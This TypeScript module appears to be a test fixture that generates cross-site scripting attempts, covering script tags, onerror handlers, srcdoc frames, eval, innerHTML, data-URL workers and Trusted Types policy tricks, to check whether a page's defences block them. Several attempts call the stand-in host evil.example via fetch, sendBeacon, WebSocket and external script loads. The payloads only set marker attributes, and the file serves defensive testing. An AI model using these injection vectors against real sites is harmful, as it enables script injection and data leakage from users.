/** Prefix of the attribute that an attempt to inject a script sets if the script runs; the attempt's name follows. */
export const HIT = 'data-hit-';

/** The name of an attempt, as a part of an attribute's name. */
function slugOf(name: string): string {
  return name.toLowerCase().replaceAll(' ', '-');
}

/** Another site. A request to it also proves that an attempt has worked. */
export const EVIL = 'https://evil.example/';

type Attempts = Readonly<Record<string, (hit: string, evil: string) => string>>;

/** Attempts by markup, as in a page whose server forgot to escape text. */
const MARKUP: Attempts = {
  'a script': (hit) => `<script>${hit}</script>`,
  'a module': (hit) => `<script type="module">${hit}</script>`,
  'a script of another site': (_hit, evil) => `<script src="${evil}"></script>`,
  'an inline handler': (hit) => `<img src="data:," onerror="${hit}">`,
  'a frame of text': (hit) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  'a frame of another site': (_hit, evil) => `<iframe src="${evil}"></iframe>`,
  'a sheet of another site': (_hit, evil) => `<link rel="stylesheet" href="${evil}">`,
};

/**
 * Attempts by scripts that turn text into script, or send data to another site. Each runs as if it were a script of the
 * page.
 */
const SCRIPTS: Attempts = {
  eval: (hit) => `eval(${text(hit)})`,
  Function: (hit) => `new Function(${text(hit)})()`,
  'a timer of text': (hit) => `setTimeout(${text(hit)})`,
  'a script element': (hit) =>
    `const script = document.createElement('script'); script.textContent = ${text(hit)}; document.body.append(script)`,
  'a module of data': (hit) => `import(${text(`data:text/javascript,${encodeURIComponent(hit)}`)})`,
  'a module of another site': (_hit, evil) => `import('${evil}')`,
  innerHTML: (hit) =>
    `const p = document.createElement('p'); document.body.append(p); p.innerHTML = ${text(`<img src="data:," onerror="${hit}">`)}`,
  'a fragment of text': (hit) =>
    `document.body.append(document.createRange().createContextualFragment(${text(`<script>${hit}</script>`)}))`,
  'an attribute of a handler': (hit) =>
    `const b = document.createElement('button'); b.setAttribute('onclick', ${text(hit)}); document.body.append(b); b.click()`,
  'a frame made of text': (hit) =>
    `const f = document.createElement('iframe'); f.srcdoc = ${text(`<script>parent.${hit}</script>`)}; document.body.append(f)`,
  'a worker of text': (hit) =>
    `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { ${hit} }`,
  'a worker of data': (hit) => `new Worker('data:text/javascript,postMessage(1)').onmessage = () => { ${hit} }`,
  'a policy of its own': (hit) => `trustedTypes.createPolicy('evil', { createScript: (given) => given }); ${hit}`,
  'a policy for everything': (hit) => `trustedTypes.createPolicy('default', {}); ${hit}`,
  'a call to another site': (_hit, evil) => `fetch('${evil}')`,
  'a beacon to another site': (_hit, evil) => `navigator.sendBeacon('${evil}', 'words')`,
  'a socket to another site': (_hit, evil) => `new WebSocket('${evil.replace('https:', 'wss:')}')`,
};

/** The slugs of all attempts. */
export const ATTEMPTS = [...Object.keys(MARKUP), ...Object.keys(SCRIPTS)].map(slugOf).sort();

export const MARKUP_ATTEMPTS = cooked(MARKUP);
export const SCRIPT_ATTEMPTS = cooked(SCRIPTS);

function cooked(attempts: Attempts): string[] {
  return Object.entries(attempts).map(([name, make]) => {
    const slug = slugOf(name);
    return make(`document.documentElement.setAttribute('${HIT}${slug}','')`, `${EVIL}${slug}`);
  });
}

/**
 * A string literal for a script. It needs no escapes for HTML, as no attempt contains the end of a script element or
 * attribute.
 */
function text(value: string): string {
  return JSON.stringify(value);
}
